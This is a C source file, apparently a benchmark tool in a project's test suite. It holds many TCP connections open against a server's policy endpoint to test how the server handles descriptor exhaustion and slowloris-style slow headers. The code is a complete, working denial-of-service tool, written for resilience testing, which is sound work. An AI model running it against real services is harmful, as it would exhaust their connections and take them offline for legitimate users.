// SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
/*
 * Holds COUNT connections to HOST:PORT for SECONDS, opening a new one at
 * once for each the server closes, as an attacker keeping the policy
 * endpoint's connections would:
 *   hold       connect and send nothing (descriptor exhaustion);
 *   slowloris  a request line, then one header line every EVERY seconds,
 *              never the empty line that ends the headers.
 * Prints "opened=N closed_by_server=M" at the end.
 *
 *   conn_attack hold|slowloris HOST PORT COUNT SECONDS [EVERY]
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>
#include "bench_util.h"

#define REQUEST_LINE "POST /?command=allow HTTP/1.1\r\nHost: attack\r\n"
#define HEADER_LINE  "X-Slow: 1\r\n"

struct attacker {
	struct sockaddr_in server;
	bool slowloris;
	int epoll_fd;
	int *fds; /* COUNT slots; -1: to open */
	size_t count;
	unsigned long opened, closed;
};

static int open_one(struct attacker *a, size_t slot)
{
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
	struct epoll_event ev = { .events = EPOLLIN | EPOLLRDHUP, .data.u64 = slot };

	if (fd < 0)
		return -1;
	if (connect(fd, (struct sockaddr *)&a->server, sizeof(a->server)) && errno != EINPROGRESS) {
		close(fd);
		return -1;
	}
	epoll_ctl(a->epoll_fd, EPOLL_CTL_ADD, fd, &ev);
	a->fds[slot] = fd;
	a->opened++;
	if (a->slowloris && write(fd, REQUEST_LINE, strlen(REQUEST_LINE)) < 0 && errno != EAGAIN)
		return 0; /* not connected yet: the next header line goes with it */
	return 0;
}

static void close_one(struct attacker *a, size_t slot)
{
	epoll_ctl(a->epoll_fd, EPOLL_CTL_DEL, a->fds[slot], NULL);
	close(a->fds[slot]);
	a->fds[slot] = -1;
	a->closed++;
}

static void open_missing(struct attacker *a)
{
	for (size_t i = 0; i < a->count; i++)
		if (a->fds[i] < 0)
			open_one(a, i);
}

/* Data or a hang-up from the server: whatever it is, the connection is over for us. */
static void drain(struct attacker *a, int timeout_ms)
{
	struct epoll_event events[256];
	int n = epoll_wait(a->epoll_fd, events, 256, timeout_ms);

	for (int i = 0; i < n; i++) {
		size_t slot = events[i].data.u64;
		char buf[512];
		ssize_t got = read(a->fds[slot], buf, sizeof(buf));

		if (got == 0 || (got < 0 && errno != EAGAIN) || got > 0)
			close_one(a, slot);
	}
}

int main(int argc, char **argv)
{
	struct attacker a = { 0 };
	struct rlimit lim;
	double end, every, next_line;

	if (argc < 6)
		bench_die("usage", "conn_attack hold|slowloris HOST PORT COUNT SECONDS [EVERY]");
	a.slowloris = strcmp(argv[1], "slowloris") == 0;
	a.server.sin_family = AF_INET;
	a.server.sin_port = htons((unsigned short)atoi(argv[3]));
	if (inet_pton(AF_INET, argv[2], &a.server.sin_addr) != 1)
		bench_die(argv[2], "not an IPv4 address");
	a.count = strtoul(argv[4], NULL, 10);
	end = bench_now() + atof(argv[5]);
	every = argc > 6 ? atof(argv[6]) : 10;
	if (!getrlimit(RLIMIT_NOFILE, &lim)) {
		lim.rlim_cur = lim.rlim_max;
		setrlimit(RLIMIT_NOFILE, &lim);
	}
	a.fds = malloc(a.count * sizeof(*a.fds));
	a.epoll_fd = epoll_create1(EPOLL_CLOEXEC);
	if (!a.fds || a.epoll_fd < 0)
		bench_die("conn_attack", strerror(errno));
	for (size_t i = 0; i < a.count; i++)
		a.fds[i] = -1;
	next_line = bench_now() + every;
	while (bench_now() < end) {
		open_missing(&a);
		drain(&a, 100);
		if (a.slowloris && bench_now() >= next_line) {
			for (size_t i = 0; i < a.count; i++)
				if (a.fds[i] >= 0 &&
				    write(a.fds[i], HEADER_LINE, strlen(HEADER_LINE)) < 0 &&
				    errno != EAGAIN)
					close_one(&a, i);
			next_line += every;
		}
	}
	printf("opened=%lu closed_by_server=%lu\n", a.opened, a.closed);
	return 0;
}
